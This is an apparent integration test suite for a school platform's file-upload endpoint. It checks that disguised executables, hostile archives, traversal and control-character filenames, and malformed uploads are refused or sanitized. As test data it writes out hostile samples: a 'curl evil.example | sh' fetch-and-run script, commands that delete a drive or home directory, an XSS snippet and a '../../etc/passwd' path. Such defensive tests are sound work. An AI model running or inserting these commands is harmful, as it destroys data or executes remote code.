import { randomBytes } from 'node:crypto';
import { type Pool } from 'pg';
import { type AppStack, startAppStack } from '../support/api-stack';
import { testApiConfig } from '../support/config';
import { request, type RunningApi, startApi } from '../support/http';
import { freePort } from '../support/processes';
import { createDistrict, createUsers, signInAs } from '../support/roster-factory';
import {
  attachmentTestEnv,
  removeTestStorage,
  blobPath,
  postMultipart,
  storedFiles,
  upload,
  uploadRaw,
  waitForStatus,
} from '../support/attachments';
import { zipSync } from 'fflate';
import { minimalPdf, minimalPng } from '../support/sample-files';

const LIMIT = 256 * 1024;
const TEXT = Buffer.from('Reading list for week 3\n');

/**
 * Bad uploads get their 4xx (or a sanitized name) and leave nothing behind: no blob, no temporary
 * file, no row. The suite's storage directory and district are its own, so their contents after the
 * refusals are exactly what the accepted uploads put there.
 */
describe('attachment upload input validation', () => {
  const env = attachmentTestEnv('att-input', { UPLOAD_MAX_BYTES: String(LIMIT) });
  let stack: AppStack;
  let api: RunningApi;
  let pool: Pool;
  let districtId: string;
  let token: string;
  const accepted: string[] = [];

  beforeAll(async () => {
    stack = await startAppStack({ overrides: env.overrides });
    ({ api, pool } = stack);
    const district = await createDistrict(pool);
    districtId = district.districtId;
    const [teacher] = await createUsers(pool, districtId, 'teacher', 1, district.schoolId);
    token = await signInAs(pool, districtId, teacher!.id);
  }, 120_000);

  afterAll(async () => {
    await stack?.stop();
    removeTestStorage(env);
  });

  const expectNothingLeftBehind = async () => {
    expect(storedFiles(env.storageDir)).toEqual(accepted.map((id) => blobPath(districtId, id)).sort());
    const { rows } = await pool.query<{ id: string }>('SELECT id FROM attachments WHERE district_id = $1', [
      districtId,
    ]);
    expect(rows.map((r) => r.id).sort()).toEqual([...accepted].sort());
  };

  it('when the file is empty, then the answer is 400 and nothing is stored', async () => {
    const res = await upload(api.baseUrl, token, Buffer.alloc(0), 'empty.txt');
    expect(res.status).toBe(400);
    expect(res.body.error?.code).toBe('VALIDATION_FAILED');
    await expectNothingLeftBehind();
  });

  it('when the file is larger than the limit, then the answer is 413 and nothing is stored', async () => {
    const justOver = await upload(api.baseUrl, token, Buffer.alloc(LIMIT + 1, 0x61), 'big.txt');
    expect(justOver.status).toBe(413);
    expect(justOver.body.error?.code).toBe('PAYLOAD_TOO_LARGE');
    const farOver = await upload(api.baseUrl, token, Buffer.alloc(LIMIT * 4, 0x61), 'huge.txt');
    expect(farOver.status).toBe(413);
    await expectNothingLeftBehind();
  });

  it('when an oversize file streams without a Content-Length, then the stream is cut at the limit with 413', async () => {
    const boundary = 'homeroomchunkedboundary';
    const parts = [
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="stream.txt"\r\n\r\n`,
        'latin1',
      ),
      ...Array.from({ length: 8 }, () => Buffer.alloc(LIMIT / 2, 0x62)),
      Buffer.from(`\r\n--${boundary}--\r\n`, 'latin1'),
    ];
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        const next = parts.shift();
        if (next) controller.enqueue(next);
        else controller.close();
      },
    });
    const res = await fetch(`${api.baseUrl}/v1/attachments`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${token}`,
        'content-type': `multipart/form-data; boundary=${boundary}`,
      },
      body,
      duplex: 'half',
    } as RequestInit & { duplex: 'half' });
    expect(res.status).toBe(413);
    await expectNothingLeftBehind();
  });

  it.each([
    [
      'a Windows executable renamed to .pdf',
      Buffer.concat([Buffer.from('MZ'), randomBytes(4096)]),
      'worksheet.pdf',
    ],
    [
      'an ELF binary renamed to .txt',
      Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), randomBytes(512)]),
      'notes.txt',
    ],
    ['a shell script renamed to .txt', Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), 'notes.txt'],
    ['a batch file named .txt.bat', Buffer.from('@echo off\r\ndel /q C:\\*\r\n'), 'homework.txt.bat'],
    ['a web page renamed to .txt', Buffer.from('<html><script>alert(1)</script></html>'), 'page.txt'],
    [
      'a legacy Office file',
      Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), randomBytes(512)]),
      'old.doc',
    ],
  ])(
    'when %s is uploaded, then it is refused with 415 and nothing is stored',
    async (_what, content, name) => {
      const res = await upload(api.baseUrl, token, content, name);
      expect(res.status).toBe(415);
      expect(res.body.error?.code).toBe('UNSUPPORTED_MEDIA_TYPE');
      await expectNothingLeftBehind();
    },
  );

  const zipOf = (files: Record<string, Uint8Array>) => Buffer.from(zipSync(files));
  const peExecutable = Buffer.concat([Buffer.from('MZ'), randomBytes(4096)]);

  it.each([
    ['a Windows executable renamed to .pdf', zipOf({ 'worksheet.pdf': peExecutable })],
    ['a Windows executable in a nested archive', zipOf({ 'week.zip': zipOf({ 'game.exe': peExecutable }) })],
    ['a PowerShell script', zipOf({ 'notes/setup.ps1': Buffer.from('Remove-Item -Recurse ~') })],
    [
      'a shell script named .txt',
      zipOf({ 'readme.txt': Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') }),
    ],
    ['archives nested three deep', zipOf({ 'a.zip': zipOf({ 'b.zip': zipOf({ 'c.txt': TEXT }) }) })],
  ])(
    'when a zip holding %s is uploaded, then it is refused with 415 and never stored or released',
    async (_what, content) => {
      const res = await upload(api.baseUrl, token, content, 'homework.zip');
      expect([res.status, res.body.error?.code]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
      await expectNothingLeftBehind();
    },
  );

  it('when a zip holds only documents, then it is accepted and released clean by the scanner', async () => {
    const res = await upload(
      api.baseUrl,
      token,
      zipOf({ 'sheet.pdf': minimalPdf(), 'inner.zip': zipOf({ 'notes.txt': TEXT }) }),
      'homework.zip',
    );
    expect(res.status).toBe(202);
    accepted.push(res.body.id!);
    expect((await waitForStatus(api.baseUrl, token, res.body.id!, 'clean')).status).toBe('clean');
    await expectNothingLeftBehind();
  });

  it('when the client claims an allowed Content-Type for an executable, then the content still decides (415)', async () => {
    const res = await uploadRaw(
      api.baseUrl,
      token,
      Buffer.concat([Buffer.from('MZ'), randomBytes(256)]),
      'filename="a.pdf"',
      {
        partContentType: 'application/pdf',
      },
    );
    expect(res.status).toBe(415);
    await expectNothingLeftBehind();
  });

  it.each([
    ['a path traversal', 'filename="../../etc/passwd"', TEXT, 'passwd.txt'],
    ['Windows path parts', 'filename="C:\\\\Windows\\\\System32\\\\notes.txt"', TEXT, 'notes.txt'],
    ['a reserved device name', 'filename="CON.txt"', TEXT, '_CON.txt'],
    [
      'a right-to-left override hiding .exe',
      "filename*=UTF-8''photo%E2%80%AEgnp.exe",
      minimalPng(),
      'photognp.exe.png',
    ],
  ])(
    'when the name is %s, then the upload is accepted under a sanitized name',
    async (_what, parameter, content, expected) => {
      const res = await uploadRaw(api.baseUrl, token, content, parameter);
      expect(res.status).toBe(202);
      accepted.push(res.body.id!);
      const clean = await waitForStatus(api.baseUrl, token, res.body.id!, 'clean');
      expect(clean.filename).toBe(expected);
      await expectNothingLeftBehind();
    },
  );

  it('when text is named like a script behind a right-to-left override, then it is refused with 415', async () => {
    const res = await uploadRaw(api.baseUrl, token, TEXT, "filename*=UTF-8''notes%E2%80%AEtxt.bat");
    expect(res.status).toBe(415);
    await expectNothingLeftBehind();
  });

  it.each([
    ['raw control characters', 'filename="a\x01b\x1fc.txt"'],
    ['encoded control characters', "filename*=UTF-8''bad%07na%00me%0D%0A.txt"],
    ['an encoded NUL', "filename*=UTF-8''a%00.txt"],
    ['an encoded tab', "filename*=UTF-8''a%09b.txt"],
  ])('when the name holds %s, then 400 VALIDATION_FAILED and nothing is stored', async (_what, parameter) => {
    const res = await uploadRaw(api.baseUrl, token, Buffer.from('hello\n'), parameter);
    expect({ status: res.status, code: res.body.error?.code }).toEqual({
      status: 400,
      code: 'VALIDATION_FAILED',
    });
    await expectNothingLeftBehind();
  });

  it('when the body is not multipart or has no file field, then the answer is 400 and nothing is stored', async () => {
    const json = await request<{ error: { code: string } }>(api.baseUrl, 'POST', '/v1/attachments', {
      token,
      json: { file: 'not a file' },
    });
    expect(json.status).toBe(400);
    const wrongField = await uploadRaw(api.baseUrl, token, minimalPdf(), 'filename="a.pdf"', {
      field: 'document',
    });
    expect(wrongField.status).toBe(400);
    const boundary = 'homeroomemptyboundary';
    const noParts = await postMultipart(api.baseUrl, token, Buffer.from(`--${boundary}--\r\n`), boundary);
    expect(noParts.status).toBe(400);
    const truncated = await postMultipart(
      api.baseUrl,
      token,
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\n\r\nhello`,
      ),
      boundary,
    );
    expect(truncated.status).toBe(400);
    await expectNothingLeftBehind();
  });

  it('when the scan cannot be started (Temporal unreachable), then the answer is 503 and nothing is kept', async () => {
    const stranded = await startApi(
      testApiConfig({ ...env.overrides, TEMPORAL_ADDRESS: `127.0.0.1:${await freePort()}` }),
    );
    try {
      const res = await upload(stranded.baseUrl, token, minimalPdf(), 'report.pdf');
      expect(res.status).toBe(503);
      expect(res.body.error?.code).toBe('UNAVAILABLE');
    } finally {
      await stranded.close();
    }
    await expectNothingLeftBehind();
  }, 60_000);

  it('when two files are sent in one upload, then the answer is 400 and neither is kept', async () => {
    const boundary = 'homeroomtwofiles';
    const part = (name: string) =>
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\n\r\nhello ${name}\r\n`;
    const res = await postMultipart(
      api.baseUrl,
      token,
      Buffer.from(`${part('one.txt')}${part('two.txt')}--${boundary}--\r\n`),
      boundary,
    );
    expect(res.status).toBe(400);
    await expectNothingLeftBehind();
  });
});
